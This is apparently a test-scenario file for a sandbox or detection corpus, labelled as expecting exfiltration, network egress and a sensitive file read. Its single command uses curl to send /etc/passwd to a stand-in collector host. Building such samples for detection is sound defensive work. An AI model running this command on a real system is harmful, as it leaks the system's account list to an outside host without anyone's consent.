# scenario: 01 post-sensitive-files-online
# expect: exfiltration network.egress filesystem.sensitive_read
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# curl posts the account list to a collector host.
curl -s -m 3 -X POST --data-binary @/etc/passwd http://collector.example.org/in || echo "post failed"
